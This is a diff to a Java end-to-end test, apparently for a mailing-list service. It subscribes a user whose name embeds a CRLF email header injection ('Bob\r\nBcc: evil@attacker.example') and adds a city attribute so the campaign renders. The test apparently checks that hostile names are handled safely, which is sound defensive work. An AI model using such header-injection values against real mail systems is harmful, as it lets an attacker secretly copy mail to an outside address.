@@ -41,12 +41,14 @@ class HostileNameTest {
         long list = op.createList(name);
         op.importSubscribers(list, Campaigns.prefix(name), imported, 0, Duration.ofMinutes(3));
         String bob = Campaigns.prefix(name) + "bob@example.com";
+        // with the city the campaign's body names: without it Bob's mail would fail as render, rightly
         try (KafkaProducer<String, String> producer = new KafkaProducer<>(Map.of(
                 ProducerConfig.BOOTSTRAP_SERVERS_CONFIG, E2e.suite().stack().kafkaBootstrap(),
                 ProducerConfig.ACKS_CONFIG, "all"), new StringSerializer(), new StringSerializer())) {
             producer.send(new ProducerRecord<>(Topics.LIST_COMMANDS, bob, EventCodec.encode(ListCommand.of(
                     UUID.randomUUID().toString(), ListCommand.Command.SUBSCRIBE, bob,
-                    "Bob\r\nBcc: evil@attacker.example", null, List.of(list), null, "e2e", Instant.now())))).get();
+                    "Bob\r\nBcc: evil@attacker.example", Map.of("city", "Lyon"), List.of(list), null, "e2e",
+                    Instant.now())))).get();
         }
         int members = imported + 1;
         await().atMost(Duration.ofMinutes(1)).until(() -> op.api().get(Service.SUBSCRIBER,
